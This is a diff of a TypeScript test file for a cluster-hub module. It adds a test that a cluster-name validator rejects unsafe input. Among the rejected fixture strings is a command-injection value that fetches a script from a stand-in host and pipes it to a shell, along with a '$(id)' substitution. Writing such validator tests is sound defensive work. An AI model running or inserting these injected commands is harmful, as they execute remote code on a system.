@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import {test} from 'node:test';
 import {Fields} from '../../src/fields';
-import {clusterPath, hubOf, mapInParallel, onCluster, pathOf, unread} from '../../src/hub';
+import {clusterPath, hubOf, isClusterName, mapInParallel, onCluster, pathOf, unread} from '../../src/hub';
 import {application, hubApplications, resource} from '../samples';
 
 const names = (applications: readonly Fields[] = []): unknown[] =>
@@ -23,6 +23,12 @@ test('groups Applications by managed cluster, also those without works there', (
     ]);
     assert.deepEqual(names(hub.byCluster.get('cluster3')), ['shop', 'refused']);
     assert.equal(hub.placed, 1);
+});
+
+test('a link cannot make a command to copy', () => {
+    for (const name of ['cluster1', 'eu-1.example.com', 'a']) assert.ok(isClusterName(name), name);
+    for (const text of ['a; curl evil.example.com|sh', '$(id)', 'a b', '-a', 'a\n', 'A', '', 'a'.repeat(254)])
+        assert.ok(!isClusterName(text), text);
 });
 
 test('an Application is on a cluster with the worst of its works there, and links to them', () => {
